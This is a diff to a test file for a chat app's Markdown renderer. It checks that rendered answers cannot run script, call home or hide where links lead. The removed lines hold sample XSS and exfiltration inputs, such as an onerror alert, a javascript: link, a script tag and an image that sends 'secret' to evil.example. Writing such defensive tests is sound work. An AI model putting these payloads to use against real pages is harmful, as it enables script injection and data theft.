@@ -3,6 +3,8 @@ import { Composer } from "#app/ui/chat/composer.tsx";
 import { Markdown } from "#app/ui/chat/markdown.tsx";
 import { Answer } from "#app/ui/chat/message.tsx";
 import { SessionList } from "#app/ui/chat/session-list.tsx";
+import { tags } from "#tests/support/html.ts";
+import { hostileAnswers } from "./hostile-answers.ts";
 import { render, textOf } from "./render.tsx";
 
 describe("answers", () => {
@@ -22,16 +24,36 @@ describe("answers", () => {
     );
   });
 
-  test.each([
-    "<img src=x onerror=alert(1)>",
-    "![x](https://evil.example/?q=secret)",
-    "[click](javascript:alert(1))",
-    '<a href="https://evil.example">x</a>',
-    "**<script>alert(1)</script>**",
-  ])("nothing in an answer can run or call home: %s", async (text) => {
-    const html = await render(<Markdown text={text} />);
-    expect(html).not.toMatch(/<(img|a|script|iframe|link|style)\b/i);
+  test("a link says where it leads, whatever its words say; a picture is its description", async () => {
+    const html = await render(
+      <Markdown
+        text={
+          "[your bank](https://evil.example/login) ![chart](https://evil.example/x.png) https://a.example/b"
+        }
+      />,
+    );
+    expect(html).toContain('href="https://evil.example/login"');
+    expect(textOf(html)).toBe("your bank (evil.example) chart a.example/b");
+    expect(html).toMatch(/<a [^>]*rel="noopener noreferrer nofollow"/);
   });
+
+  test.each(hostileAnswers)(
+    "nothing in an answer can run, call home or hide where it leads: %s",
+    async (text) => {
+      const started = performance.now();
+      const html = await render(<Markdown text={text} />);
+      expect(performance.now() - started).toBeLessThan(2000);
+      const found = tags(html, "[a-z][a-z0-9]*");
+      const plain = ["div", "p", "h3", "ul", "ol", "li", "strong", "em", "a"];
+      expect(found.map(({ name }) => name).filter((name) => !plain.includes(name))).toEqual([]);
+      for (const { name, attributes, text: words } of found) {
+        const { class: _, ...rest } = attributes;
+        expect(Object.keys(rest)).toEqual(name === "a" ? ["href", "rel", "target"] : []);
+        if (name === "a") expect(words).toContain(new URL(attributes.href ?? "").host);
+        expect(attributes.href ?? "https:").toMatch(/^https?:/);
+      }
+    },
+  );
 
   test("citations name meeting, speaker and time and lead to the line", async () => {
     const citation = {
